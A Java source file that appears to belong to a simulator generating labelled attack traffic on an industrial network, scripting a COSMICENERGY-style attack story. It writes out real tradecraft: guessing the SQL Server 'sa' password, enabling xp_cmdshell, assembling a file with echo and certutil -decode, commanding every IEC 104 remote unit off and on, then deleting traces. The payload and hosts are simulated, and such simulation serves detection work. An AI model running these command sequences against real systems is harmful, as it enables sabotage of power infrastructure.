package dev.postern.plant;

import dev.postern.plant.database.Database;
import dev.postern.plant.database.SqlVisit;
import dev.postern.plant.net.Host;
import dev.postern.plant.telecontrol.Iec104Master;
import dev.postern.plant.telecontrol.RemoteUnit;
import dev.postern.plant.telecontrol.Telecontrol;

/**
 * After COSMICENERGY of 2023: with the administrator's name somebody logs in to the database server, opens its door to the operating system, writes
 * a program there piece by piece, and the server becomes a master of the remote terminal units: everything off, everything on. Then it is deleted.
 */
final class CosmicEnergy extends Story {
    private static final int PIECES = 12;
    private static final String PASSWORD = "Start-2019";
    private final Host source;
    private final Host server;

    CosmicEnergy(Stage stage) {
        super(stage);
        source = site.officePcs.getLast();
        server = annexes.get(Database.class).server;
    }

    @Override
    void begin(long nowNanos) {
        actSql(nowNanos, "tries the administrator's password", Ledger.Technique.VALID_ACCOUNTS, () -> {
            SqlVisit visit = new SqlVisit(network, source, server, dice);
            long at = visit.refused(nowNanos, "sa", "sa", "OSQL-32");
            at = visit.refused(at + 2 * SECOND, "sa", "Plant-2019", "OSQL-32");
            visit.login(at + 3 * SECOND, "sa", PASSWORD, "OSQL-32");
            if (visit.isOpen()) visit.close(visit.readyNanos() + SECOND);
        });
        after(nowNanos, pace(2 * MINUTE, 2 * DAY), this::copy);
    }

    private void copy(long nowNanos) {
        actSql(
                nowNanos,
                "writes a program onto " + server + " through its database",
                Ledger.Technique.TOOL_TRANSFER,
                () -> {
                    SqlVisit visit = new SqlVisit(network, source, server, dice);
                    long at = visit.login(nowNanos, "sa", PASSWORD, "OSQL-32");
                    if (!visit.isOpen()) return;
                    at = visit.call(at, "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE");
                    for (int i = 0; i < PIECES; i++)
                        at = visit.call(
                                at + 40_000_000, "EXEC master..xp_cmdshell 'echo " + letters() + ">>C:\\Temp\\r3.b64'");
                    at = visit.call(
                            at + 40_000_000,
                            "EXEC master..xp_cmdshell 'certutil -decode C:\\Temp\\r3.b64 C:\\Temp\\r3.exe'");
                    visit.close(at + SECOND);
                });
        long at = nowNanos;
        for (RemoteUnit unit : annexes.get(Telecontrol.class).units) {
            at += dice.around(pace(MINUTE, DAY), 0.3);
            timeline.plan(at, now -> run(now, unit));
        }
        timeline.plan(at + 10 * MINUTE, this::delete);
    }

    private String letters() {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < 200; i++) text.append((char) ('A' + dice.below(26)));
        return text.toString();
    }

    private void run(long nowNanos, RemoteUnit unit) {
        Iec104Master master = new Iec104Master(network, server, unit);
        actSql(nowNanos, "starts the program for " + unit.host(), Ledger.Technique.LATERAL_EXECUTION, () -> {
            SqlVisit visit = new SqlVisit(network, source, server, dice);
            long at = visit.login(nowNanos, "sa", PASSWORD, "OSQL-32");
            if (!visit.isOpen()) return;
            at = visit.call(at, "EXEC master..xp_cmdshell 'C:\\Temp\\r3.exe 2404 " + unit.host() + "'");
            visit.close(at + SECOND);
        });
        for (int pass = 0; pass < 2; pass++) {
            boolean on = pass == 1;
            timeline.plan(nowNanos + 2 * SECOND + pass * 20L * SECOND, now -> switchAll(now, master, unit, on));
        }
    }

    private void switchAll(long nowNanos, Iec104Master master, RemoteUnit unit, boolean on) {
        act(
                nowNanos,
                "switches everything of " + unit.host() + (on ? " on" : " off"),
                server,
                unit.host(),
                Ledger.Technique.UNAUTHORISED_COMMAND,
                () -> {
                    if (!master.connect(nowNanos)) return;
                    long at = master.start(master.readyNanos() + 2_000_000);
                    for (int i = 0; i < RemoteUnit.POINTS; i++)
                        at = master.execute(at + 300_000_000, RemoteUnit.FIRST_COMMAND + i, on);
                    master.close(at + 500_000_000);
                });
    }

    private void delete(long nowNanos) {
        actSql(nowNanos, "deletes its program", Ledger.Technique.TRACES_REMOVED, () -> {
            SqlVisit visit = new SqlVisit(network, source, server, dice);
            long at = visit.login(nowNanos, "sa", PASSWORD, "OSQL-32");
            if (!visit.isOpen()) return;
            at = visit.call(at, "EXEC master..xp_cmdshell 'del C:\\Temp\\r3.*'");
            visit.close(at + SECOND);
        });
    }

    private void actSql(long nowNanos, String what, Ledger.Technique how, Runnable work) {
        act(nowNanos, what, source, server, how, work);
    }
}
